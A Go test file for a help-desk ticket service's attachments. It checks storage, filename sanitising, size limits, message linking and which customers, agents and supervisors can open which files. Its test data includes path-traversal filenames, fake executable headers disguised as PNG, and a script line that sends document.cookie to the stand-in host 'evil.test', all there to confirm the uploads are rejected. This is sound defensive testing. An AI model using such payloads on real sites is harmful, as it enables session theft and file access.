package ticket_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"vigil/internal/apperr"
	"vigil/internal/event"
	"vigil/internal/ticket"
)

// storedFiles lists the attachment files kept under dir, temporary files
// included, so a rejected upload that leaves anything behind is caught.
func storedFiles(tb testing.TB, dir string) []string {
	tb.Helper()
	var out []string
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			rel, _ := filepath.Rel(dir, path)
			out = append(out, rel)
		}
		return nil
	})
	if err != nil {
		tb.Fatal(err)
	}
	return out
}

func (e *env) upload(tb testing.TB, scope ticket.Scope, convID int64, name string, content []byte, by string) ticket.Attachment {
	tb.Helper()
	a, err := e.tickets.Upload(e.ctx, scope, ticket.UploadInput{ConversationID: convID, Filename: name,
		Content: bytes.NewReader(content), UploadedBy: by})
	if err != nil {
		tb.Fatalf("upload %s: %v", name, err)
	}
	return a
}

func TestUploadStoresPNGAndLinksIt(t *testing.T) {
	e := newEnv(t)
	cust := e.customer(t, "Alice")
	ag := e.agent(t, "sam@desk.test")
	conv, _ := e.open(t, cust.ID)
	img := pngBytes(t)
	sum := sha256.Sum256(img)
	hexSum := hex.EncodeToString(sum[:])
	at := e.clock.Advance(time.Minute)

	att := e.upload(t, all, conv.ID, "../../etc/deposit proof.png", img, fmt.Sprintf("agent:%d", ag.ID))
	want := ticket.Attachment{ID: att.ID, ConversationID: conv.ID, Filename: "deposit proof.png", ContentType: "image/png",
		Size: int64(len(img)), SHA256: hexSum, CreatedAt: at}
	if diff := cmp.Diff(want, att, cmpOpts...); diff != "" {
		t.Errorf("Upload returned (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{filepath.Join(hexSum[:2], hexSum[2:4], hexSum)}, storedFiles(t, e.files.Dir)); diff != "" {
		t.Errorf("stored files (-want +got):\n%s", diff)
	}
	// The same bytes uploaded again are stored once.
	again := e.upload(t, all, conv.ID, "copy.png", img, fmt.Sprintf("agent:%d", ag.ID))
	if again.ID == att.ID || len(storedFiles(t, e.files.Dir)) != 1 {
		t.Errorf("second upload: id %d (first %d), %d files stored; want a new record and one file", again.ID, att.ID, len(storedFiles(t, e.files.Dir)))
	}

	sub := e.bus.Subscribe("test", 16)
	msg := e.add(t, ticket.MessageInput{ConversationID: conv.ID, AuthorKind: ticket.ByAgent, AuthorID: ag.ID,
		AttachmentIDs: []int64{att.ID, att.ID}})
	want.MessageID = msg.ID
	if diff := cmp.Diff([]ticket.Attachment{want}, msg.Attachments, cmpOpts...); diff != "" {
		t.Errorf("message attachments (-want +got):\n%s", diff)
	}
	ms := e.messages(t, conv.ID)
	if diff := cmp.Diff([]ticket.Attachment{want}, ms[len(ms)-1].Attachments, cmpOpts...); diff != "" {
		t.Errorf("stored message attachments (-want +got):\n%s", diff)
	}
	evs := drain(sub)
	if len(evs) == 0 {
		t.Fatal("no message.created event")
	}
	if mc := evs[0].(event.MessageCreated); !cmp.Equal(mc.Attachments, []int64{att.ID}) {
		t.Errorf("event attachments = %v, want [%d]", mc.Attachments, att.ID)
	}

	got, f, err := e.tickets.OpenAttachment(e.ctx, ticket.Scope{CustomerID: cust.ID}, att.ID)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	b, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b, img) || got.ContentType != "image/png" {
		t.Errorf("opened %s with %d bytes, want image/png with the uploaded %d bytes", got.ContentType, len(b), len(img))
	}
}

func TestUploadFilenames(t *testing.T) {
	e := newEnv(t)
	cust := e.customer(t, "Alice")
	conv, _ := e.open(t, cust.ID)
	tests := []struct{ in, want string }{
		{"receipt.png", "receipt.png"},
		{"../../../etc/passwd.png", "passwd.png"},
		{`C:\Users\alice\Desktop\tx.png`, "tx.png"},
		{"a<b>|c?.png", "a_b__c_.png"},
		{"line\nbreak.png", "line_break.png"},
		{"", "file"},
		{"..", "file"},
		{strings.Repeat("x", 200) + ".png", strings.Repeat("x", 116) + ".png"},
	}
	for _, tt := range tests {
		a := e.upload(t, all, conv.ID, tt.in, pngBytes(t), "agent:1")
		if a.Filename != tt.want {
			t.Errorf("filename %q stored as %q, want %q", tt.in, a.Filename, tt.want)
		}
	}
}

func TestUploadRejections(t *testing.T) {
	img := pngBytes(t)
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 120)...)
	mz := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00"), make([]byte, 120)...)
	tests := []struct {
		name    string
		file    string
		content []byte
		scope   func(alice, bob int64) ticket.Scope
		kind    apperr.Kind
		code    string
	}{
		{name: "HTML disguised as PNG", file: "proof.png", content: []byte("<!DOCTYPE html><html><script>steal()</script></html>"),
			kind: apperr.Invalid, code: "attachment.type"},
		{name: "script disguised as PNG", file: "proof.png", content: []byte("  <script>document.location='https://evil.test/'+document.cookie</script>"),
			kind: apperr.Invalid, code: "attachment.type"},
		{name: "ELF executable disguised as PNG", file: "proof.png", content: elf, kind: apperr.Invalid, code: "attachment.type"},
		{name: "Windows executable disguised as PNG", file: "proof.png", content: mz, kind: apperr.Invalid, code: "attachment.type"},
		{name: "zip", file: "proof.png", content: []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), kind: apperr.Invalid, code: "attachment.type"},
		{name: "over MaxSize", file: "huge.png", content: append(append([]byte{}, img...), make([]byte, 1<<20)...),
			kind: apperr.TooLarge, code: "attachment.too_large"},
		{name: "empty", file: "empty.txt", content: nil, kind: apperr.Invalid, code: "attachment.empty"},
		{name: "into another customer's conversation", file: "proof.png", content: img,
			scope: func(_, bob int64) ticket.Scope { return ticket.Scope{CustomerID: bob} }, kind: apperr.NotFound, code: "conversation.not_found"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t)
			alice, bob := e.customer(t, "Alice"), e.customer(t, "Bob")
			conv, _ := e.open(t, alice.ID)
			rows := e.counts(t)
			scope := all
			if tt.scope != nil {
				scope = tt.scope(alice.ID, bob.ID)
			}
			_, err := e.tickets.Upload(e.ctx, scope, ticket.UploadInput{ConversationID: conv.ID, Filename: tt.file,
				Content: bytes.NewReader(tt.content), UploadedBy: "customer:1"})
			wantKind(t, err, tt.kind)
			if ae, _ := apperr.As(err); ae.Code != tt.code {
				t.Errorf("code = %q, want %q", ae.Code, tt.code)
			}
			if diff := cmp.Diff(rows, e.counts(t)); diff != "" {
				t.Errorf("rejected upload wrote rows (-before +after):\n%s", diff)
			}
			if files := storedFiles(t, e.files.Dir); len(files) != 0 {
				t.Errorf("rejected upload left files %v", files)
			}
		})
	}
}

func TestUploadAtExactlyMaxSize(t *testing.T) {
	e := newEnv(t)
	e.files.MaxSize = 4096
	cust := e.customer(t, "Alice")
	conv, _ := e.open(t, cust.ID)
	content := []byte(strings.Repeat("a", 4096))
	a := e.upload(t, all, conv.ID, "log.txt", content, "agent:1")
	if a.Size != 4096 || a.ContentType != "text/plain" {
		t.Errorf("upload at the limit: size %d type %s, want 4096 text/plain", a.Size, a.ContentType)
	}
	_, err := e.tickets.Upload(e.ctx, all, ticket.UploadInput{ConversationID: conv.ID, Filename: "log.txt",
		Content: strings.NewReader(string(content) + "a")})
	wantKind(t, err, apperr.TooLarge)
}

func TestLinkingAttachmentsRefusals(t *testing.T) {
	e := newEnv(t)
	cust := e.customer(t, "Alice")
	ag := e.agent(t, "sam@desk.test")
	convA, _ := e.open(t, cust.ID)
	convB, _ := e.open(t, cust.ID)
	att := e.upload(t, all, convA.ID, "a.png", pngBytes(t), "agent:1")

	tests := []struct {
		name string
		conv int64
		ids  []int64
	}{
		{"attachment of another conversation", convB.ID, []int64{att.ID}},
		{"unknown attachment", convA.ID, []int64{att.ID, 9999}},
	}
	for _, tt := range tests {
		beforeConv := e.reload(t, tt.conv)
		rows := e.counts(t)
		_, err := e.tickets.AddMessage(e.ctx, ticket.MessageInput{ConversationID: tt.conv, AuthorKind: ticket.ByAgent,
			AuthorID: ag.ID, Body: "see attached", AttachmentIDs: tt.ids})
		if apperr.KindOf(err) != apperr.Invalid {
			t.Errorf("%s: err = %v, want invalid", tt.name, err)
		}
		if diff := cmp.Diff(rows, e.counts(t)); diff != "" {
			t.Errorf("%s: refused message wrote rows (-before +after):\n%s", tt.name, diff)
		}
		if diff := cmp.Diff(beforeConv, e.reload(t, tt.conv), cmpOpts...); diff != "" {
			t.Errorf("%s: refused message changed the conversation (-before +after):\n%s", tt.name, diff)
		}
	}
	// Still unsent: its own conversation can use it, once.
	m := e.add(t, ticket.MessageInput{ConversationID: convA.ID, AuthorKind: ticket.ByAgent, AuthorID: ag.ID, AttachmentIDs: []int64{att.ID}})
	if len(m.Attachments) != 1 || m.Attachments[0].ID != att.ID {
		t.Fatalf("attachments = %v, want [%d]", m.Attachments, att.ID)
	}
	_, err := e.tickets.AddMessage(e.ctx, ticket.MessageInput{ConversationID: convA.ID, AuthorKind: ticket.ByAgent,
		AuthorID: ag.ID, Body: "again", AttachmentIDs: []int64{att.ID}})
	wantKind(t, err, apperr.Invalid)
}

func TestAttachmentVisibility(t *testing.T) {
	e := newEnv(t)
	alice, bob := e.customer(t, "Alice"), e.customer(t, "Bob")
	teamA, teamB := e.team(t, "A"), e.team(t, "B")
	ann := e.agent(t, "ann@desk.test", teamA.ID)
	conv, _ := e.open(t, alice.ID, func(in *ticket.OpenInput) { in.TeamID = teamA.ID })
	img := pngBytes(t)
	agentBy := fmt.Sprintf("agent:%d", ann.ID)

	onPublic := e.upload(t, all, conv.ID, "public.png", img, agentBy)
	e.add(t, ticket.MessageInput{ConversationID: conv.ID, AuthorKind: ticket.ByAgent, AuthorID: ann.ID, Body: "here", AttachmentIDs: []int64{onPublic.ID}})
	onNote := e.upload(t, all, conv.ID, "kyc-flag.png", img, agentBy)
	e.add(t, ticket.MessageInput{ConversationID: conv.ID, AuthorKind: ticket.ByAgent, AuthorID: ann.ID, Body: "compliance", Internal: true, AttachmentIDs: []int64{onNote.ID}})
	agentDraft := e.upload(t, all, conv.ID, "draft.png", img, agentBy)
	customerDraft := e.upload(t, ticket.Scope{CustomerID: alice.ID}, conv.ID, "mine.png", img, fmt.Sprintf("customer:%d", alice.ID))

	type row struct {
		name  string
		scope ticket.Scope
		sees  map[int64]bool
	}
	tests := []row{
		{"owner customer", ticket.Scope{CustomerID: alice.ID}, map[int64]bool{onPublic.ID: true, customerDraft.ID: true}},
		{"other customer", ticket.Scope{CustomerID: bob.ID}, map[int64]bool{}},
		{"agent of the team", ticket.Scope{AgentID: ann.ID, TeamIDs: []int64{teamA.ID}},
			map[int64]bool{onPublic.ID: true, onNote.ID: true, agentDraft.ID: true, customerDraft.ID: true}},
		{"agent of another team", ticket.Scope{AgentID: 999, TeamIDs: []int64{teamB.ID}}, map[int64]bool{}},
		{"supervisor", all, map[int64]bool{onPublic.ID: true, onNote.ID: true, agentDraft.ID: true, customerDraft.ID: true}},
	}
	names := map[int64]string{onPublic.ID: "on public reply", onNote.ID: "on internal note", agentDraft.ID: "agent's unsent upload", customerDraft.ID: "customer's unsent upload"}
	for _, tt := range tests {
		for id, name := range names {
			_, f, err := e.tickets.OpenAttachment(e.ctx, tt.scope, id)
			if f != nil {
				f.Close()
			}
			if tt.sees[id] {
				if err != nil {
					t.Errorf("%s: attachment %s: %v, want it readable", tt.name, name, err)
				}
			} else if apperr.KindOf(err) != apperr.NotFound {
				t.Errorf("%s: attachment %s: err %v, want not found", tt.name, name, err)
			}
		}
	}
	if _, _, err := e.tickets.OpenAttachment(e.ctx, all, 9999); apperr.KindOf(err) != apperr.NotFound {
		t.Errorf("unknown attachment: err %v, want not found", err)
	}
}
